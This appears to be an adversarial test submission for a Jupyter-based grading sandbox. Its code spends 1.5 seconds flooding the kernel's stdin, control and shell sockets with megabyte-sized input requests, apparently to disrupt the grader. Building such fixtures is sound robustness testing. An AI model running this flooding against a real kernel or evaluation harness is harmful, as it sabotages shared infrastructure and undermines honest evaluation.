# trick: floods the channels that nobody reads, and the shell with answers to nobody
# limits: cell_seconds=2 submission_seconds=8
# with the right answer: any
# %% wrap
import time

from ipykernel.kernelapp import IPKernelApp

_app = IPKernelApp.instance()
peer = _app.kernel._parent_ident["shell"][0] if isinstance(_app.kernel._parent_ident, dict) else b""
until = time.monotonic() + 1.5
while time.monotonic() < until:
    for channel in (_app.stdin_socket, _app.control_socket, _app.shell_socket):
        try:
            _app.kernel.session.send(channel, "input_request", {"x": "y" * (1 << 20)}, ident=peer)
        except Exception:
            pass
